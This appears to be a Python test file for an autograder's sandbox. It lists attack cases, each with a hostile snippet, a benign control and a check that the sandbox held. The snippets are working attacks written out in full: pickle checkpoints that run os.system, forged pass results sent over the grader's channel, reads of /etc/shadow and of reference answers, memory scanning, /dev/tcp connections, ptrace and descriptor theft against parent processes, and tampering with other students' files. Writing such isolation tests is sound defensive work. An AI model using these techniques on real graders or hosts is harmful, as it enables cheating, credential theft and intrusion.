"""Rows 34 to 36 and 49 to 61: what a guest may not read, and whom it may not speak to."""

from __future__ import annotations

import os
import pickle
import py_compile
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

from tests.attacks.attack import Attack
from truth.workbench import REFERENCE

CUBIC = ("theory.cubic_density",)

# Shows what a path holds, but for the submission's own files: they are a copy of the reference.
READ = """
import glob, os, sys
own = os.path.dirname(os.path.abspath(__file__))
def show(path):
    try:
        if os.path.realpath(path).startswith(own):
            return
        with open(path, "rb") as file:
            data = file.read(1 << 20)
        lines = data.splitlines()
        telling = [line for line in lines if b"canary" in line or b"small is no" in line or b"optimum" in line]
        print("READ", path, data.hex() if len(data) == 32 else [line[-200:] for line in telling or lines[-3:]])
    except (OSError, ValueError):
        pass
"""

# The bytes in this process's memory around some words. The words are put together late: the code holds none of them.
SCAN = """
import re
words = [bytes(reversed(word)) for word in (b"yrev on si llams_lk", b"-vne-yranac", b"-emoh-yranac", b"-rehto-yranac")]
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        region, rights, *_, name = (line.split() + [""])[:7]
        start, end = (int(each, 16) for each in region.split("-"))
        if "r" not in rights or name.startswith("[v"):
            continue
        while start < end:
            try:
                memory.seek(start)
                data = memory.read(min(1 << 24, end - start))
            except (OSError, ValueError, OverflowError):
                break
            for word in words:
                for found in re.finditer(re.escape(word), data):
                    print("FOUND", data[found.start() - 40:found.start() + 90])
            start += 1 << 24
"""


def piece(*parts: str) -> str:
    return "\n".join(textwrap.dedent(part).strip("\n") for part in parts)


def unless_said(words: str) -> Callable[[Path], str]:
    """Nothing that the submission's grading left may hold these words, which its code does not hold itself."""

    def look(results: Path) -> str:
        files = [path for path in results.rglob("*") if path.is_file()]
        return next((f"{words!r} stands in {path.name}" for path in files if words.encode() in path.read_bytes()), "")

    return look


def unless_changed(*names: str) -> Callable[[Path], str]:
    """The files of the neighbour who is graded last keep their mode and their time."""

    def look(results: Path) -> str:
        folder = results.parents[1] / "class" / "zz-last"
        states = {name: (folder / name).stat() for name in names}
        return ", ".join(
            f"a neighbour's {name} has mode {state.st_mode:o} and time {state.st_mtime:.0f}"
            for name, state in states.items()
            if not state.st_mode & 0o400 or state.st_mtime < 1000
        )

    return look


class _Bomb:
    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, ("touch /tmp/gg-attack-checkpoint-ran",)


def _pack_checkpoints(folder: Path) -> None:
    """Files of weights that run a command where they are unpickled: torch's two formats, numpy's, and a plain one."""
    bomb = {"state_dict": _Bomb()}
    for part in ("part1", "part2", "part3"):
        torch.save(bomb, folder / part / "model.pt")
        torch.save(bomb, folder / part / "old.ckpt", _use_new_zipfile_serialization=False)
        (folder / part / "plain.pth").write_bytes(pickle.dumps(bomb))


def _pack_weights(folder: Path) -> None:
    torch.save({"state_dict": {}}, folder / "part2" / "model.pt")


def _ran(results: Path) -> str:
    mark = Path("/tmp/gg-attack-checkpoint-ran")
    if mark.exists():
        mark.unlink()
        return "a file of weights ran a command outside"
    return ""


def _pack_bytecode(folder: Path) -> None:
    """Compiled from the right answer, and told never to be checked against the source."""
    cache = folder / "part1" / "__pycache__"
    cache.mkdir()
    for target in (cache / "utils.cpython-311.pyc", folder / "part1" / "utils.pyc"):
        py_compile.compile(
            str(REFERENCE / "part1" / "utils.py"),
            cfile=str(target),
            invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
        )


ATTACKS = [
    # In the guest's own process --------------------------------------------------------------------------------------
    Attack(
        34,
        "frames up to the zygote",
        hostile=piece(
            """
            import json, sys, numpy as np
            from safetensors.numpy import save
            frame, channel = sys._getframe(), None
            while frame is not None:
                for name, value in {**frame.f_globals, **frame.f_locals}.items():
                    if any(word in name.lower() for word in ("expected", "reference", "secret", "answer", "solution")):
                        print("FRAME", frame.f_code.co_name, name, repr(value)[:300])
                        if torch.is_tensor(value) and value.shape == x.shape:
                            return value
                channel = frame.f_locals.get("channel", channel)
                frame = frame.f_back
            if channel is not None:
                claims = {name: {"v": True} for name in ("passed", "correct", "outcome")}
                claims |= {"points": {"v": 2}, "complex": {"v": False}, "density": {"t": "t0"}}
                document = json.dumps({"d": claims}).encode()
                body = len(document).to_bytes(4, "big") + document + save({"t0": np.full(len(x), 1.0)})
                channel.sendall(b"E" + len(body).to_bytes(8, "big") + body)
                import os
                os._exit(0)
            """
        ),
        control="""
            import sys
            assert sys._getframe().f_back is not None
        """,
        why="no frame holds an expected value, and a claim that something passed is nothing that a grader reads",
    ),
    Attack(
        34,
        "a forged fault that nobody can be blamed for",
        hostile=piece(
            """
            import json, os, sys
            frame = sys._getframe()
            while "channel" not in frame.f_locals:
                frame = frame.f_back
            fault = {name: {"v": "infra"} for name in ("outcome", "type", "message", "hint")} | {"frames": {"l": []}}
            document = json.dumps({"d": fault}).encode()
            body = len(document).to_bytes(4, "big") + document + (2).to_bytes(8, "little") + b"{}"
            frame.f_locals["channel"].sendall(b"F" + len(body).to_bytes(8, "big") + body)
            os._exit(97)
            """
        ),
        control="""
            import os
            os.getpid()
        """,
        why="of a guest's words about itself only those that cost it points are taken",
    ),
    Attack(
        35,
        "objects of the collector",
        hostile=piece(
            """
            import gc
            import numpy as np
            found = [each for each in gc.get_objects() if type(each) is torch.Tensor or type(each) is np.ndarray]
            for each in [item for each in gc.get_objects() if type(each) in (list, dict) for item in
                         (each.values() if type(each) is dict else each)]:
                if type(each) in (torch.Tensor, np.ndarray):
                    found.append(each)
            same = [torch.as_tensor(each) for each in found if tuple(each.shape) == tuple(x.shape)]
            for each in same:
                if each.dtype.is_floating_point and not torch.equal(each.double(), x.double()):
                    return each.double().clone()
            given = x.clone()
            for each in same:
                each.fill_(float("nan"))
            x = given
            """
        ),
        control="""
            import gc
            gc.collect()
        """,
        why="the expected values are computed in another process",
    ),
    Attack(
        35,
        "memory left over",
        hostile="""
            for size in (len(x), len(x) + 1, 2 * len(x)):
                for kind in (torch.float64, torch.float32):
                    for _ in range(200):
                        left = torch.empty(size, dtype=kind)[: len(x)]
                        if bool(torch.isfinite(left).all()) and bool((left >= 0).all()) and bool((left > 0).any()):
                            return left.double().clone()
        """,
        control="""
            torch.empty(len(x))
        """,
        why="the reference runs in a process of its own, and the kernel gives no page away unwiped",
    ),
    Attack(
        36,
        "the source of the graders",
        hostile=piece(
            READ,
            """
            import importlib, importlib.util, inspect, linecache, pkgutil
            names = {name for name in sys.modules if name.split(".")[0] in ("graders", "gengrade", "tests", "truth")}
            for top in ("graders", "gengrade", "gengrade.grading", "graders.misconceptions", "reference", "truth"):
                try:
                    package = importlib.import_module(top)
                    names |= {f"{top}.{info.name}" for info in pkgutil.iter_modules(getattr(package, "__path__", []))}
                except ImportError:
                    pass
            names |= {"graders." + name for name in ("theory", "vae", "gan", "flow", "misconceptions.uva2020")}
            for name in sorted(names):
                try:
                    print("SOURCE", name, len(inspect.getsource(importlib.import_module(name))))
                    for line in inspect.getsource(sys.modules[name]).splitlines():
                        if "kl_small is" in line or "optimum" in line:
                            print(line)
                except (ImportError, OSError, TypeError, AttributeError):
                    pass
            for name in list(linecache.cache):
                show(name)
            # The finder of an editable installation knows where the project lies.
            for finder in [*sys.meta_path, *sys.path_hooks, *sys.modules.values()]:
                mapping = getattr(finder, "MAPPING", None)
                for path in mapping.values() if type(mapping) is dict else ():
                    print("MAPPED", path)
                    for file in glob.glob(f"{path}/**/*.py", recursive=True):
                        show(file)
            for file in glob.glob(f"{sys.prefix}/lib/python*/site-packages/__editable__*"):
                folder = open(file).read()
                print("EDITABLE", folder[:300])
                for line in folder.split():
                    for name in ("graders/theory.py", "reference/uva2020/answers.py", "../graders/theory.py"):
                        show(os.path.join(line.strip("'\\"{},:"), name))
            """,
        ),
        control="""
            import inspect
            assert "cubic" in inspect.getsource(cubic_density)
        """,
    ),
    Attack(
        49,
        "weights that run a command",
        target="part1/utils.py:KLD",
        hostile="""
            import glob, os
            for path in glob.glob(os.path.dirname(__file__) + "/*.p*t*"):
                try:
                    torch.load(path, weights_only=False)
                except Exception as error:
                    print(error)
        """,
        control="""
            import os
            os.getcwd()
        """,
        pack=_pack_checkpoints,
        control_pack=_pack_weights,
        attacked=("vae.", "gan.", "flow."),
        look=_ran,
        why="the host opens no file of weights at all; a guest does, with weights_only",
    ),
    # Files -----------------------------------------------------------------------------------------------------------
    Attack(
        50,
        "the reference and the secret on disk",
        hostile=piece(
            READ,
            """
            project, out, home = "@PROJECT@", "@OUT@", "@HOME@"
            targets = [
                f"{project}/reference/uva2020/answers.py", f"{project}/graders/theory.py", f"{project}/rubric.yaml",
                f"{out}/.gengrade/secret", f"{out}/.gengrade/job.json",
                f"{out}/.gengrade/trees/.reference/theory/answers.py",
                "/trees/.reference/theory/answers.py", f"{home}/canary.txt", "/etc/shadow", "/etc/passwd",
            ]
            for around in ("", "/proc/self/root", "/proc/1/root", "/proc/1/cwd/../..", "/proc/thread-self/root",
                           f"/proc/{os.getppid()}/root", "/usr/..", "/dev/fd/../..", "/tmp/..", f"{own}/../../.."):
                for target in targets:
                    show(around + target)
            scratch = os.environ["TMPDIR"]
            for number, target in enumerate(targets):
                for way in (os.symlink, os.link, os.rename):
                    try:
                        way(target, f"{scratch}/{way.__name__}{number}")
                        show(f"{scratch}/{way.__name__}{number}")
                    except OSError:
                        pass
            # By folders that are open, or that a working folder leads to.
            for start in (*glob.glob("/proc/self/fd/*"), "/", "/proc/self/cwd"):
                try:
                    folder = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
                    for target in targets:
                        show(f"/proc/self/fd/{folder}/" + "../" * 9 + target)
                except OSError:
                    pass
            for folder in (project, out, f"{out}/.gengrade/trees/.reference/theory", home):
                try:
                    os.chdir(folder)
                    for name in ("reference/uva2020/answers.py", "answers.py", "canary.txt", ".gengrade/secret"):
                        show(name)
                    print("LIST", os.listdir("."))
                except OSError:
                    pass
            # What lies beneath a mount, in the kernel's own words.
            import ctypes
            libc = ctypes.CDLL(None)
            for over in ("/trees", "/tmp", "/dev/shm", "/proc", "/submission"):
                libc.umount2(over.encode(), 2)
            for line in open("/proc/self/mountinfo"):
                root = line.split()[3]
                for name in (".reference/theory/answers.py", "../secret", "../../.gengrade/secret"):
                    show(f"{root}/{name}")
            """,
        ),
        control="""
            import os
            open(os.path.join(os.path.dirname(__file__), "answers.py")).read()
        """,
    ),
    Attack(
        50,
        "all of the disk",
        hostile=piece(
            READ,
            """
            import time
            end, own_names = time.monotonic() + 5, {"@PROJECT@", "@OUT@", "@CLASS@"}
            skip = ("/proc", "/sys", "/usr/share", "/usr/lib/x86_64", "/usr/include")
            for top in ("/trees", "/submission", "/library", "/opt", "/root", "/home", "/mnt", "/srv", "/var", "/tmp",
                        "/run", *own_names, "/etc", "/usr/src", "/usr/local", sys.prefix, "/"):
                for folder, below, names in os.walk(top):
                    if time.monotonic() > end:
                        break
                    below[:] = [name for name in below if not os.path.join(folder, name).startswith(skip)
                                and name not in ("site-packages", "dist-packages")]
                    for name in names:
                        if name in ("theory.py", "answers.py", "rubric.yaml", "secret", "canary.txt"):
                            show(os.path.join(folder, name))
            """,
        ),
        control="""
            import os
            list(os.walk("."))
        """,
    ),
    Attack(
        50,
        "names and sizes outside",
        hostile="""
            import os
            for path in ("@PROJECT@/reference/uva2020/answers.py", "@CLASS@/zz-last/answers.py"):
                try:
                    print("size" + "-of-" + "another", os.stat(path).st_size)
                except OSError:
                    pass
        """,
        control="""
            import os
            os.stat(__file__)
        """,
        look=unless_said("size-of-another"),
        open_in={"landlock": "Landlock keeps what is in a file, not that it is there, nor its size and times"},
    ),
    # The network, other processes, and what the kernel tells ----------------------------------------------------------
    Attack(
        51,
        "every way out",
        hostile="""
            import array, ctypes, os, socket, struct, subprocess, sys
            targets = [
                (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@PORT@"))),
                (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@UDP@"))),
                (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", int("@PORT@"))),
                (socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@"),
                (socket.AF_UNIX, socket.SOCK_STREAM, "\\0@MARK@"),
                (socket.AF_UNIX, socket.SOCK_STREAM, "/proc/self/root@SOCKET@"),
                (socket.AF_VSOCK, socket.SOCK_STREAM, (2, int("@PORT@"))),
            ]
            for family, kind, address in targets:
                try:
                    talk = socket.socket(family, kind)
                    talk.settimeout(1)
                    talk.connect(address)
                    talk.send(b"x")
                except OSError:
                    pass
            # An unconnected pair can send to a name, and so can the run's own channel.
            for number in range(3, 20):
                for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
                    try:
                        mine, _ = socket.socketpair(socket.AF_UNIX, kind)
                        for talk in (mine, socket.socket(fileno=os.dup(number))):
                            for address in ("@SOCKET@", "\\0@MARK@"):
                                try:
                                    talk.connect(address)
                                except OSError:
                                    pass
                    except OSError:
                        pass
            # The calls themselves, past Python; io_uring has sockets of its own; and the 32-bit entry.
            libc = ctypes.CDLL(None)
            address = struct.pack("=HH4s8x", 2, socket.htons(int("@PORT@")), bytes([127, 0, 0, 1]))
            talk = libc.syscall(41, 2, 1, 0)
            libc.syscall(42, talk, address, 16)
            libc.syscall(425, 8, ctypes.create_string_buffer(120))
            script = "import socket; socket.create_connection(('127.0.0.1', int('@PORT@')), 1)"
            subprocess.run([sys.executable, "-c", script], stderr=subprocess.DEVNULL)
            subprocess.run(["/bin/bash", "-c", "echo x > /dev/tcp/127.0.0.1/@PORT@"], stderr=subprocess.DEVNULL)
        """,
        control="""
            import socket
            one, other = socket.socketpair()
            one.send(b"x")
            assert other.recv(1) == b"x"
        """,
    ),
    Attack(
        51,
        "sockets of the host are taken over",
        hostile="""
            import ctypes, os, socket, struct
            libc = ctypes.CDLL(None)
            pids = {1, os.getppid()}
            handles = []
            for number in range(3, 20):
                try:
                    channel = socket.socket(fileno=os.dup(number))
                    pids.add(struct.unpack("3i", channel.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0])
                    handles.append(channel.getsockopt(socket.SOL_SOCKET, 77))  # SO_PEERPIDFD
                except OSError:
                    pass
            for pid in pids - {0}:
                try:
                    handles.append(os.pidfd_open(pid))
                except OSError:
                    pass
            for handle in handles:
                for number in range(64):
                    taken = libc.syscall(438, handle, number, 0)  # pidfd_getfd
                    if taken >= 0:
                        print("got" + "-hold")
                libc.syscall(308, handle, 0x40000000)  # setns
                libc.syscall(424, handle, 9, None, 0)  # pidfd_send_signal
        """,
        control="""
            import os
            os.pidfd_open(os.getpid())
        """,
        look=unless_said("got-hold"),
    ),
    Attack(
        54,
        "environments and command lines",
        hostile=piece(
            READ,
            """
            import socket, struct
            print("OWN", dict(os.environ))
            pids = {1, 2, os.getpid(), os.getppid(), os.getpgid(0), os.getsid(0)}
            for number in range(3, 20):
                try:
                    channel = socket.socket(fileno=os.dup(number))
                    pids.add(struct.unpack("3i", channel.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0])
                except OSError:
                    pass
            near = [pid + step for pid in list(pids) for step in range(-30, 30)]
            for pid in sorted({*pids, *near} - {0, -1}):
                for name in ("environ", "cmdline", "cwd", "exe", "stat", "maps", "auxv", "task/%d/environ" % pid):
                    if pid == os.getpid() and name in ("maps", "stat"):
                        continue
                    try:
                        path = f"/proc/{pid}/{name}"
                        held = os.readlink(path) if name in ("cwd", "exe") else open(path, "rb").read(20_000)
                        if b"canary" in bytes(str(held), "utf-8"):
                            print("PROC", path, held)
                    except OSError:
                        pass
            """,
        ),
        control="""
            import os
            assert "HOME" in os.environ
        """,
    ),
    Attack(
        54,
        "who speaks on the host",
        hostile="""
            for name in ("unix", "tcp", "udp", "netlink", "arp", "route"):
                for path in (f"/proc/self/net/{name}", f"/proc/net/{name}", f"/proc/thread-self/net/{name}"):
                    try:
                        for line in open(path):
                            if "traps/" in line:
                                print("host" + "-socket", line)
                    except OSError:
                        pass
        """,
        control="""
            open("/proc/self/status").read()
        """,
        look=unless_said("host-socket"),
    ),
    Attack(
        55,
        "a seed that can be guessed",
        hostile="""
            import hashlib, hmac, os
            seed = torch.initial_seed()
            tests = [f"test_cubic_density[{case}]" for case in ("positive", "negative", "straddling zero")]
            empty = [b"", bytes(32), b"secret", b"gengrade", os.environ.get("GENGRADE_SECRET", "").encode()]
            guesses = [one + str(number).encode() for one in empty for number in range(300)] + empty
            for guess in guesses:
                for test in tests:
                    for count in range(1, 4):
                        message = f"run\\0{test}\\0{count}".encode()
                        drawn = int.from_bytes(hmac.digest(guess, message, hashlib.sha256)[:8], "big") >> 1
                        if drawn == seed:
                            print("guessed" + "-right", guess)
        """,
        control="""
            torch.initial_seed()
        """,
        look=unless_said("guessed-right"),
        why="inputs come from 256 secret bits of the run's own by HMAC; what a guest is told does not lead back",
    ),
    Attack(
        56,
        "what the zygote left in memory",
        hostile=SCAN,
        control="""
            open("/proc/self/maps").read()
        """,
    ),
    Attack(
        56,
        "the zygote is changed",
        hostile="""
            import ctypes, os, re
            libc = ctypes.CDLL(None, use_errno=True)
            class Vector(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
            data = ctypes.create_string_buffer(b"changed" + b"-it", 10)
            for pid in {1, os.getppid()}:
                for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
                    if libc.ptrace(request, pid, 0, 0) == 0:
                        print(data.value.decode())
                here = Vector(ctypes.addressof(data), 10)
                # A fork has its parent's addresses: our own are the zygote's.
                there = Vector(id(os.getppid), 10)
                if libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                    print(data.value.decode())
                for name in ("mem", "clear_refs", "oom_score_adj", "comm", "coredump_filter", "autogroup"):
                    try:
                        with open(f"/proc/{pid}/{name}", "r+b", 0) as file:
                            file.seek(id(os.getppid)) if name == "mem" else None
                            print(data.value.decode(), name)
                    except OSError:
                        pass
            # Pages that are shared with it rather than copied.
            for line in open("/proc/self/maps"):
                if re.match(r"\\S+ .w.s", line):
                    print(data.value.decode(), line)
        """,
        control="""
            import ctypes
            ctypes.create_string_buffer(8)
        """,
        look=unless_said("changed-it"),
    ),
    # Between guests ---------------------------------------------------------------------------------------------------
    Attack(
        60,
        "notes for the next run",
        at_import=True,
        attacked=CUBIC,
        hostile="""
            import os as _os, sys as _sys, tempfile as _tempfile, glob as _glob
            def _notes():
                home = _os.path.expanduser("~")
                places = [
                    "/tmp", "/var/tmp", "/dev/shm", "/dev", "/dev/mqueue", "/dev/pts", "/run", "/run/lock", "/",
                    "/library", "/etc", "/opt", "/root", "/home", "/trees", "/submission", "/proc",
                    "@HOME@", "@OUT@", "@CLASS@", "@PROJECT@", home, f"{home}/..", f"{home}/../..",
                    f"{home}/../../..", _os.getcwd(),
                    _tempfile.gettempdir(), _os.path.dirname(__file__), f"{_os.path.dirname(__file__)}/__pycache__",
                    _sys.prefix, _os.path.dirname(_sys.modules["torch"].__file__),
                    _os.path.dirname(_sys.modules["graders"].__file__),
                    *(_os.environ.get(name, "/tmp") for name in ("TORCH_HOME", "XDG_CACHE_HOME", "MPLCONFIGDIR")),
                ]
                for place in places:
                    for name in ("@MARK@-note", ".@MARK@"):
                        path = f"{place}/{name}"
                        if _os.path.lexists(path):
                            print("note" + "-from-another-run", path)
                        for make in (lambda: open(path, "w").close(), lambda: _os.mkdir(path, 0),
                                     lambda: _os.mkfifo(path), lambda: _os.symlink("/", path)):
                            try:
                                make()
                                break
                            except OSError:
                                pass
            _notes()
        """,
        control="""
            import tempfile
            with tempfile.NamedTemporaryFile() as _file:
                _file.write(b"x")
        """,
        look=unless_said("note-from-another-run"),
    ),
    Attack(
        60,
        "queues segments and keys for the next run",
        at_import=True,
        attacked=CUBIC,
        hostile="""
            import ctypes as _ctypes
            def _queues():
                libc = _ctypes.CDLL(None, use_errno=True)
                key, flags = 0x6767, 0o1666
                buffer = _ctypes.create_string_buffer(64)
                _ctypes.memmove(buffer, (1).to_bytes(8, "little") + b"x" * 8, 16)
                found = []
                if libc.shmget(key, 0, 0) >= 0 or libc.shmctl(0, 14, _ctypes.create_string_buffer(256)) > 0:
                    found.append("memory")
                if libc.msgget(key, 0) >= 0 or libc.semget(key, 0, 0) >= 0:
                    found.append("queue")
                for number in range(64):
                    if libc.msgrcv(number, buffer, 8, 0, 0o4000) >= 0:
                        found.append("message")
                for ring in (-1, -2, -3, -4, -5):  # a thread's, a process's, a session's, a user's keyrings
                    if libc.syscall(250, 10, ring, b"user", b"note", 0) > 0:
                        found.append("key")
                try:
                    if "note" in open("/proc/keys").read():
                        found.append("keys")
                except OSError:
                    pass
                if libc.syscall(240, b"note", 0o2, 0, None) >= 0:
                    found.append("posix queue")
                print(*(f"left{'-by-another'} {each}" for each in found))
                libc.shmget(key, 4096, flags)
                queue = libc.msgget(key, flags)
                libc.msgsnd(queue, buffer, 8, 0o4000)
                libc.semget(key, 1, flags)
                libc.syscall(240, b"note", 0o102, 0o666, None)
                for ring in (-1, -2, -3, -4, -5):
                    libc.syscall(248, b"user", b"note", b"x", 1, ring)
            _queues()
        """,
        control="""
            import ctypes as _ctypes
            _ctypes.CDLL(None).getpid()
        """,
        look=unless_said("left-by-another"),
    ),
    Attack(
        60,
        "bytecode beside the source",
        target="part1/utils.py:KLD",
        hostile="""
            print("from the source")
        """,
        control="""
            print("from the source")
        """,
        pack=_pack_bytecode,
        why="caches are no part of a submission, and left out",
    ),
    Attack(
        61,
        "the folder of another student",
        hostile=piece(
            READ,
            """
            for folder in ("@CLASS@", "@OUT@", "@OUT@/.gengrade", "@OUT@/.gengrade/trees", "/trees", f"{own}/../..",
                           f"{own}/../../..", "/submission"):
                try:
                    for name in os.listdir(folder):
                        print("NAME", name[::-1])
                        for file in glob.glob(f"{folder}/{name}/answers.py"):
                            show(file)
                except OSError:
                    pass
            last = "".join(reversed("tsal-zz"))
            for file in ("answers.py", "theory/answers.py", "facts.json", "report.html"):
                for folder in ("@CLASS@", "@OUT@", "@OUT@/.gengrade/trees", "/trees", f"{own}/../.."):
                    show(f"{folder}/{last}/{file}")
            """,
        ),
        control="""
            import os
            os.listdir(os.path.dirname(__file__))
        """,
        look=unless_said("tsal-zz"),
    ),
    Attack(
        61,
        "who else is graded now",
        hostile="""
            import ctypes, os, time
            libc = ctypes.CDLL(None)
            watch = libc.inotify_init1(0o4000)
            for folder in ("@CLASS@", "@OUT@", "@OUT@/.gengrade", "@OUT@/.gengrade/trees", "/trees", "/tmp"):
                libc.inotify_add_watch(watch, folder.encode(), 0xFFF)
            end = time.monotonic() + 5
            while time.monotonic() < end:
                try:
                    events = os.read(watch, 1 << 16)
                    names = {name.decode() for name in events.split(b"\\0") if name.isascii() and len(name) > 4}
                    print("seen" + "-from-inside", *names)
                except OSError:
                    pass
                for path in ("/proc/self/mountinfo", "/proc/self/mounts"):
                    for line in open(path):
                        if "tsal-zz"[::-1] in line or "-control" in line:
                            print("seen" + "-from-inside", line)
                time.sleep(0.05)
        """,
        control="""
            import time
            time.sleep(0.1)
        """,
        look=unless_said("seen-from-inside"),
    ),
    Attack(
        61,
        "files of another student are locked away",
        hostile="""
            import ctypes, os
            libc = ctypes.CDLL(None)
            for folder in ("@CLASS@/zz-last", "/trees/zz-last", "@OUT@/.gengrade/trees/zz-last"):
                for name in ("answers.py", "part1/utils.py", "part1", ""):
                    path = f"{folder}/{name}"
                    for change in (lambda: os.chmod(path, 0), lambda: os.utime(path, (0, 0)),
                                   lambda: os.chown(path, 1, 1), lambda: os.truncate(path, 0),
                                   lambda: os.setxattr(path, "user.note", b"x"),
                                   lambda: libc.syscall(452, -100, path.encode(), 0, 0)):
                        try:
                            change()
                        except OSError:
                            pass
        """,
        control="""
            import os, tempfile
            with tempfile.NamedTemporaryFile() as file:
                os.chmod(file.name, 0o600)
        """,
        look=unless_changed("answers.py", "part1/utils.py", "part1"),
    ),
    Attack(
        0,
        "limits for processes of the host",
        hostile="""
            import ctypes, os, resource, socket, struct
            pids = {os.getppid()}
            for number in range(3, 20):
                try:
                    channel = socket.socket(fileno=os.dup(number))
                    pids.add(struct.unpack("3i", channel.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0])
                except OSError:
                    pass
            for pid in pids - {0, 1}:  # the zygote, and the worker that grades the others too
                for what in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
                    try:
                        resource.prlimit(pid, what, (0, 0))
                    except OSError:
                        pass
                for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0}),
                               lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
                    try:
                        change()
                        print("slowed" + "-down", pid)
                    except OSError:
                        pass
        """,
        control="""
            import resource
            resource.getrlimit(resource.RLIMIT_NOFILE)
        """,
        look=unless_said("slowed-down"),
    ),
    # An oracle --------------------------------------------------------------------------------------------------------
    Attack(
        53,
        "many answers in one run",
        hostile=piece(
            """
            import json, os, sys, numpy as np
            from safetensors.numpy import save
            frame = sys._getframe()
            while "channel" not in frame.f_locals:
                frame = frame.f_back
            channel = frame.f_locals["channel"]
            points = x.double().numpy()
            inside = (a <= points**3) & (points**3 <= b)
            for factor in (0.0, 1.0, 2.0, 3.0):
                document = b'{"d":{"density":{"t":"t0"},"complex":{"v":false}}}'
                body = len(document).to_bytes(4, "big") + document + save({"t0": inside * factor * points**2 / (b - a)})
                channel.sendall(b"E" + len(body).to_bytes(8, "big") + body)
            os._exit(0)
            """
        ),
        control="""
            import os
            os.getpid()
        """,
        why="a run's first answer is its only one; how often somebody may hand in is for whoever takes it in to say",
    ),
]
